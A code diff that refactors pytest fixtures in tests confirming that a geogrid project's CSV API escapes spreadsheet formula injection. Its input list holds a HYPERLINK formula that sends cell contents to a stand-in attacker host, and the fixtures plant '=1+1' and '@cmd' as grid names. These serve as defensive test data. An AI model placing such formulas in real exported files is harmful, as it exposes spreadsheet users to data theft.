@@ -6,17 +6,12 @@ import csv
 import io
 
 import pytest
-from fastapi.testclient import TestClient
 from sqlalchemy import text
 from typer.testing import CliRunner
 
-from api.app import create_app
 from geogrid.cli import application
 from geogrid.csvsafe import escape_cell
-from tests import test_planning_city as pc
-from tests.test_planning_city import A, B
-
-city = pc.city  # the fixture
+from tests.fixtures.planning_city import A, B
 
 IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+86 138", "-2+3", "@SUM(1)", "\tx", "\rx", "plain"]
 INPUT = (
@@ -27,12 +22,12 @@ INPUT = (
 
 
 @pytest.fixture
-def named(city):
+def named(planning_city):
     """Grid names a spreadsheet would run."""
-    with city.begin() as conn:
+    with planning_city.begin() as conn:
         conn.execute(text("UPDATE grids SET name = '=1+1' WHERE code = :c"), {"c": A})
         conn.execute(text("UPDATE grids SET name = '@cmd' WHERE code = :c"), {"c": B})
-    return city
+    return planning_city
 
 
 def _check(rows: list[dict]) -> None:
@@ -41,8 +36,8 @@ def _check(rows: list[dict]) -> None:
     assert all(r["grid_code"] in (A, B) for r in rows)  # codes (digits) are left alone
 
 
-def test_api_csv_answer_escapes_formulas(named):
-    answer = TestClient(create_app()).post(
+def test_api_csv_answer_escapes_formulas(named, client_as):
+    answer = client_as("admin").post(
         "/lookup/batch", content=INPUT.encode(), headers={"content-type": "text/csv"}
     )
     assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
